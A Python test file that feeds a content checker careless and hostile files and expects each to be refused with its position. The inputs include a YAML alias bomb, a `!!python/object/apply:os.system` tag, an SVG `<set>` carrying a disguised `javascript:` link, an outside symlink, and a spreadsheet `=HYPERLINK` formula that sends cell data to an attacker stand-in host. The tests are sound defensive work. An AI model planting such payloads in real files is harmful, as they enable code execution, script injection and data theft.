"""Careless and hostile files: each one refused with its file:line:column, quickly and in little memory.

One case per finding of issue 17. Every case runs `python -m crm check` (what `make check`
runs) in a child process held to 5 CPU seconds and 500 MB of address space by the test
itself, so a file that made the check hang or balloon fails here instead of passing late.
"""
from __future__ import annotations

import csv
import io
import json
import os
import re
import resource
import subprocess
import sys

import pytest
from conftest import VALID_RECORD, mkdocs_build, write_record

from crm import content

CPU_SECONDS, MEMORY = 5, 500 * 2**20
KIT = "movilidad-laboral-justa"
SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" width="216mm" height="303mm" viewBox="0 0 216 303" data-bleed="3">\n'
RECORD = "content/publications/record.yml"


def _limits():
    resource.setrlimit(resource.RLIMIT_CPU, (CPU_SECONDS, CPU_SECONDS))
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))


def check(project) -> subprocess.CompletedProcess:
    env = dict(os.environ, PYTHONPATH=str(project / "hooks"))
    # The wall-clock timeout only stops a hang; the limit that counts is CPU time (the
    # machine running the tests may be shared, which stretches wall-clock seconds).
    return subprocess.run([sys.executable, "-m", "crm", "check"], cwd=project, env=env, preexec_fn=_limits,
                          capture_output=True, text=True, timeout=60)


def where(text: str, needle: str) -> tuple[int, int]:
    """1-based line and column of the first ``needle`` in ``text``."""
    before = text[: text.index(needle)]
    return before.count("\n") + 1, len(before) - (before.rfind("\n") + 1) + 1


def record(text: str, path: str = RECORD, needle: str | None = None):
    """A case writing one record file; the problem sits at ``needle`` (else at 1:1)."""
    def write(project):
        target = project / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, encoding="utf-8")
    return write, path, where(text, needle) if needle else (1, 1)


def alias_bomb(levels: int = 9) -> str:
    lines = ["bomb:", '  l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"  l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]" for n in range(1, levels)]
    return VALID_RECORD + "\n".join(lines) + "\n"


def _with_summary(summary: str) -> str:
    return VALID_RECORD.replace("  es: Un informe sobre contratación equitativa.", f"  es: {summary}")


PRACTICE = VALID_RECORD.replace("document.schema", "practice.schema") + "implementer: Ministerio de Trabajo\nperiod: {start: 2020, end: 2010}\n"
DEEP = VALID_RECORD + "deep: " + "[" * 50_000 + "]" * 50_000 + "\n"
MAPPINGS = VALID_RECORD.replace("[GT, regional]", "[" + ", ".join(f"{{a: {n}}}" for n in range(60_000)) + "]")
BOMB, SELF_ALIAS = alias_bomb(), VALID_RECORD + "x: &x [*x]\n"
MERGE = VALID_RECORD.replace("status: published\n", "<<: {status: draft}\nstatus: published\n")
SCALAR_TAG = VALID_RECORD + "publisher: !custom foo\n"
PYTHON_TAG = VALID_RECORD.replace("countries: [GT, regional]", "countries: !!python/object/apply:os.system [CR, PA]")
LONG_URL = "https://example.org/" + "a" * 10_000


def _raw(path: str, data: bytes):
    def write(project):
        (project / path).parent.mkdir(parents=True, exist_ok=True)
        (project / path).write_bytes(data)
    return write


def _folder(path: str):
    return lambda project: (project / path).mkdir(parents=True)


def _outside_link(project):
    outside = project.parent / "outside.yml"
    outside.write_text(VALID_RECORD, encoding="utf-8")
    (project / "content" / "publications" / "linked.yml").symlink_to(outside)


def _edit_toolkit(edit):
    def write(project):
        source = project / "toolkits" / KIT / "toolkit.yml"
        source.write_text(edit(source.read_text(encoding="utf-8")), encoding="utf-8")
    return write


def _svg(text: bytes):
    return _raw(f"toolkits/{KIT}/layouts/poster-a4.svg", text)


LATIN1_RECORD = VALID_RECORD.replace("Informe de prueba", "Información").encode("latin-1")
LATIN1_SVG = (SVG_HEAD + '  <text x="1" y="1">Información</text>\n</svg>\n').encode("latin-1")
SET_HREF = SVG_HEAD + '  <a href="#x"><set attributeName="href" to="java&#x09;script:alert(1)"/></a>\n</svg>\n'

# id: (write the bad file into the project, the file named, (line, column), what the message says)
CASES = {
    # 1. YAML that expands or loops: refused at the first anchor, before anything is built
    "alias-bomb": (*record(BOMB, needle="&l0"), "anchors (&l0) are not allowed"),
    "self-referencing-alias": (*record(SELF_ALIAS, needle="&x"), "anchors (&x) are not allowed"),
    "merge-key": (*record(MERGE, needle="<<"), "merge keys (<<) are not allowed"),
    "deep-nesting": (record(DEEP)[0], RECORD, (DEEP.count("\n"), len("deep: ") + 20), "nested more than 20 levels deep"),  # the 20th [
    # work that would grow with the square of the file: pairwise comparisons, regex backtracking
    "60000-distinct-mappings-in-a-list": (*record(MAPPINGS, needle="{a: 0}"), "countries.0: expected text, found a mapping of fields"),
    "900-kb-of-angle-brackets": (*record(_with_summary('"' + "<" * 900_000 + '"'), needle='"<<<'), "summary.es: 900,000 characters; at most 3,000 are allowed"),
    # 3. impossible dates
    "month-13": (*record(VALID_RECORD.replace("date: 2020-05-01", "date: 2025-13-45"), needle="2025-13-45"), "date: 2025-13-45: month 13 does not exist"),
    "february-30-in-gender-review": (*record(VALID_RECORD.replace("date: 2024-01-10", "date: 2025-02-30"), needle="2025-02-30"), "gender_review.date: 2025-02-30: February 2025 has 28 days"),
    "month-00": (*record(VALID_RECORD.replace("date: 2020-05-01", "date: 2025-00"), needle="2025-00"), "date: 2025-00: month 00 does not exist"),
    "future-and-impossible": (*record(VALID_RECORD.replace("date: 2020-05-01", "date: 2026-13-45"), needle="2026-13-45"), "date: 2026-13-45: month 13 does not exist"),
    "year-0000": (*record(VALID_RECORD.replace("date: 2020-05-01", "date: '0000'"), needle="'0000'"), "date: 0000: year 0000 is before 1800"),
    "year-0999": (*record(VALID_RECORD.replace("date: 2020-05-01", "date: 0999"), needle="0999"), "date: 0999: year 0999 is before 1800"),
    "period-ends-before-it-starts": (*record(PRACTICE, "content/practices/practice.yml", needle="2010"), "period: it ends (2010) before it starts (2020)"),
    "period-start-not-a-date": (*record(PRACTICE.replace("start: 2020", "start: {year: 2020}").replace("end: 2010", "end: 2020-02-30"), "content/practices/practice.yml", needle="{year"), "period.start: expected a date or a year, found a mapping of fields"),
    "toolkit-date-february-30": (_edit_toolkit(lambda text: re.sub(r"^date: .*$", "date: 2025-02-30", text, flags=re.M)), f"toolkits/{KIT}/toolkit.yml", None, "date: 2025-02-30: February 2025 has 28 days"),
    # 4. what used to be tracebacks
    "tag-on-a-scalar": (*record(SCALAR_TAG, needle="!custom"), "tags such as '!custom' are not allowed"),
    "folder-named-yml": (_folder("content/practices/x.yml"), "content/practices/x.yml", (1, 1), "this is a folder"),
    "svg-not-utf8": (_svg(LATIN1_SVG), f"toolkits/{KIT}/layouts/poster-a4.svg", where(LATIN1_SVG.decode("latin-1"), "ó"), "not UTF-8 text"),
    "yaml-not-utf8": (_raw(RECORD, LATIN1_RECORD), RECORD, where(LATIN1_RECORD.decode("latin-1"), "ó"), "not UTF-8 text"),
    "schema-not-json": (_raw("content/schemas/common.schema.json", b'{\n  "$defs": {,\n}\n'), "content/schemas/common.schema.json", (2, 13), "not valid JSON"),
    # 6. animation setting a link, hidden behind a tab character
    "svg-set-href": (_svg(SET_HREF.encode()), f"toolkits/{KIT}/layouts/poster-a4.svg", (2, 16), "<set> is not allowed in artwork"),
    # 7. a link to a file outside the repository
    "symlink-outside": (_outside_link, "content/publications/linked.yml", (1, 1), "symbolic links are not allowed"),
    # 8. sizes
    "summary-20-mb": (*record(_with_summary("x" * 20_000_000)), "larger than 1 MB"),
    "title-5000-characters": (*record(VALID_RECORD.replace("Informe de prueba", "t" * 5000), needle="t" * 5000), "title.es: 5,000 characters; at most 300 are allowed"),
    "summary-900-kb": (*record(_with_summary("x" * 900_000), needle="x" * 100), "summary.es: 900,000 characters; at most 3,000 are allowed"),
    # 9. URLs
    "url-with-spaces": (*record(VALID_RECORD.replace("https://example.org/report", "https://exa mple.org/a b"), needle="https://exa"), "source_url: 'https://exa mple.org/a b' is not a valid address: it contains a space"),
    "url-without-host": (*record(VALID_RECORD.replace("https://example.org/report", "https://"), needle="https://"), "it has no host name"),
    "url-10000-characters": (*record(VALID_RECORD.replace("https://example.org/report", LONG_URL), needle=LONG_URL), "source_url: 10,020 characters; at most 2,000 are allowed"),
    # 10. what used to be ignored without a word
    "upper-case-extension": (*record(VALID_RECORD, "content/practices/x.YML"), "record files end in .yml, not '.YML'"),
    "text-file": (*record("notes\n", "content/practices/x.txt"), "only .yml record files are read"),
    "nested-folder": (*record(VALID_RECORD, "content/practices/sub/x.yml"), "files in sub-folders are not read"),
    "stray-file": (*record(VALID_RECORD, "content/stray.yml"), "a record goes in content/<collection>/<slug>.yml"),
    "python-tag-on-a-list": (*record(PYTHON_TAG, needle="!!python"), "tags such as '!!python/object/apply:os.system' are not allowed"),
    "title-of-spaces": (*record(VALID_RECORD.replace("es: Informe de prueba", 'es: "   "'), needle='"   "'), "title.es: must not be blank"),
    "related-to-itself": (*record(VALID_RECORD + "related: [publications/record]\n", needle="publications/record]"), "a record may not relate to itself"),
}


@pytest.mark.parametrize("case", CASES)
def test_bad_file_is_refused_with_file_line_and_column(project, case):
    write, path, position, message = CASES[case]
    line, column = position or (None, None)
    write(project)
    result = check(project)
    assert result.returncode == 1, f"exit {result.returncode}: {result.stdout}{result.stderr[-2000:]}"
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    expected = f"{path}:{line}:{column}: " if line else f"{path}:"
    found = [row for row in result.stderr.splitlines() if row.startswith(expected) and message in row]
    assert found, f"expected a line starting {expected!r} saying {message!r}; got:\n{result.stderr[:3000]}"
    assert all(len(row) < 1000 for row in result.stderr.splitlines()), "a message quotes a whole value"


def test_corpus_covers_every_finding():
    assert len(CASES) >= 25


def test_well_formed_dates_and_urls_pass(project):
    text = (VALID_RECORD.replace("date: 2020-05-01", "date: 2024-02-29")
            .replace("https://example.org/report", "https://www.gob.mx/stps/documentos/programa?id=1&lang=es#art-5")
            + "updated: 1800\ndocument_url: https://例え.jp/a%20b\n")
    write_record(project, "publications", "record", text)
    repo, problems = content.load(project)
    assert problems == []


def test_formula_cells_are_text_in_records_csv(project, tmp_path):
    text = (VALID_RECORD.replace("Informe de prueba", '=HYPERLINK("https://evil.example/?"&A1,"Click")')
            + "publisher: '@SUM(1+1)'\nkeywords:\n  es: ['+34 600', '-1', \"\\tTAB\"]\n")
    write_record(project, "publications", "record", text)
    site = tmp_path / "site"
    mkdocs_build(project, site)
    data = (site / "data" / "records.csv").read_bytes()
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    (row,) = rows
    assert row["title_es"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert row["publisher"] == "'@SUM(1+1)"
    assert row["keywords_es"] == "'+34 600; -1; \tTAB"
    assert row["title_en"] == "Test report"  # other cells stay as written
    exported = json.loads((site / "data" / "records.json").read_text(encoding="utf-8"))["records"][0]
    assert exported["title"]["es"] == '=HYPERLINK("https://evil.example/?"&A1,"Click")'  # JSON stays exact
    assert exported["publisher"] == "@SUM(1+1)"
